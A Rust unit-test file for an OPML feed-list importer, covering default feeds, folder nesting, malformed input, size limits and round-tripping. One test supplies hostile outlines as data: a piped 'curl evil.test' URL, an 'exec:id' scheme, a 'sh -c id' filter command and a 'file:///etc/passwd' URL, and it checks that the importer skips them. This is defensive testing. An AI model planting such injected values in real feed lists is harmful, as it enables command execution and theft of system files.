//! Lists of feeds, good and bad, in and out.

use super::*;
use crate::feeds::import::FEEDS_MAX;

fn urls(import: &Import) -> Vec<&str> {
    import.feeds.iter().map(|listed| listed.source.url.as_str()).collect()
}

#[test]
fn the_default_list_has_the_feeds_of_the_newsroom() {
    let feeds = defaults();
    assert_eq!(feeds.len(), 28);
    for feed in &feeds {
        assert!(!feed.title.is_empty() && !feed.folder.is_empty(), "{}", feed.url);
        assert!(feed.url.starts_with("https://"), "{}", feed.url);
        assert!(feed.country.len() == 2, "{}: {}", feed.url, feed.country);
        assert!(feed.lang.len() == 2, "{}: {}", feed.url, feed.lang);
    }
    let paused: Vec<&str> =
        feeds.iter().filter(|feed| feed.paused).map(|feed| feed.title.as_str()).collect();
    assert_eq!(paused, ["TASS"]);
}

#[test]
fn folders_nest_and_attributes_are_read() {
    let text = r#"<opml version="1.0"><head><title>Mine &amp; yours</title></head><body>
        <outline text="Asia"><outline text="CERT">
            <outline text="JPCERT/CC" xmlUrl="https://a.test/1" country="jp" lang="EN" class="CERT"/>
        </outline><outline type="rss" text="Two" xmlurl="https://a.test/2" paused="true"></outline></outline>
        <outline title="Top" xmlUrl="https://a.test/3" category="/x/y,/z"/>
        </body></opml>"#;
    let import = read(text.as_bytes()).unwrap();
    assert_eq!(import.title, "Mine & yours");
    let sources = import.sources();
    let one = &sources[0];
    assert_eq!((one.title.as_str(), one.folder.as_str()), ("JPCERT/CC", "Asia/CERT"));
    assert_eq!((one.country.as_str(), one.lang.as_str()), ("JP", "en"));
    assert_eq!((one.class, sources[1].paused), (FeedClass::Cert, true));
    assert_eq!(sources[1].folder, "Asia");
    assert_eq!(sources[2].folder, "x/y");
}

#[test]
fn broken_lists_are_read_as_far_as_they_go() {
    for (text, wanted) in [
        (
            "<opml><body><outline xmlUrl='https://a.test/?a=1&b=2' text='AT&T'>",
            vec!["https://a.test/?a=1&b=2"],
        ),
        (
            "<outline xmlUrl=https://a.test/1 /><outline xmlUrl=\"https://a.test/2\"",
            vec!["https://a.test/1"],
        ),
        (
            "junk <opml><outline text='x' xmlUrl='https://a.test/1'/></outline></outline><outline xmlUrl='https://a.test/2'/>",
            vec!["https://a.test/1", "https://a.test/2"],
        ),
        (
            "<OPML><BODY><OUTLINE XMLURL='https://a.test/1'/></BODY></OPML>",
            vec!["https://a.test/1"],
        ),
        ("<opml/>", vec![]),
    ] {
        let import = read(text.as_bytes()).unwrap();
        assert_eq!(urls(&import), wanted, "{text}");
    }
    assert_eq!(read(b"<html><p>x</p></html>"), Err(OpmlError::NoOutline));
    assert_eq!(read(b""), Err(OpmlError::NoOutline));
}

#[test]
fn unsafe_outlines_are_left_out_and_counted() {
    let text = r#"<opml><body>
        <outline xmlUrl="|curl evil.test" text="a"/>
        <outline xmlUrl="exec:id" text="b"/>
        <outline xmlUrl="https://a.test/1" filtercmd="sh -c id" text="c"/>
        <outline xmlUrl="file:///etc/passwd" text="d"/>
        <outline xmlUrl="https://a.test/2" text="e"/>
        </body></opml>"#;
    let import = read(text.as_bytes()).unwrap();
    assert_eq!(urls(&import), ["https://a.test/2"]);
    assert_eq!(import.remarks(), ["skipped 4 unsafe outlines"]);
}

#[test]
fn large_and_deep_lists_are_bounded() {
    let deep = format!(
        "<opml>{}<outline xmlUrl='https://a.test/1'/>",
        "<outline text='f'>".repeat(10_000)
    );
    let import = read(deep.as_bytes()).unwrap();
    assert_eq!(import.feeds[0].source.folder, "f/f/f/f/f/f/f/f");
    let many: String = (0..FEEDS_MAX + 5)
        .fold(String::new(), |text, n| text + &format!("<outline xmlUrl='https://a.test/{n}'/>"));
    let import = read(many.as_bytes()).unwrap();
    assert_eq!((import.feeds.len(), import.over_limit), (FEEDS_MAX, 5));
}

#[test]
fn what_is_written_reads_the_same() {
    let text = r#"<opml><body><outline text="A &lt;&quot;&amp;&gt;"><outline text="x" xmlUrl="https://a.test/?a=1&amp;b=2"
        country="NZ" lang="mi" class="think-tank" paused="true" htmlUrl="https://a.test/" evidence="seen"/></outline>
        <outline text="y" xmlUrl="https://b.test/"/></body></opml>"#;
    let first = read(text.as_bytes()).unwrap();
    let written = write("List", &first.sources(), Some(&first));
    let second = read(written.as_bytes()).unwrap();
    let mut wanted = first.feeds;
    wanted.sort_by_key(|listed| listed.source.folder.clone());
    let mut found = second.feeds;
    found.sort_by_key(|listed| listed.source.folder.clone());
    assert_eq!(found, wanted);
    assert!(written.contains(r#"evidence="seen""#), "{written}");
}
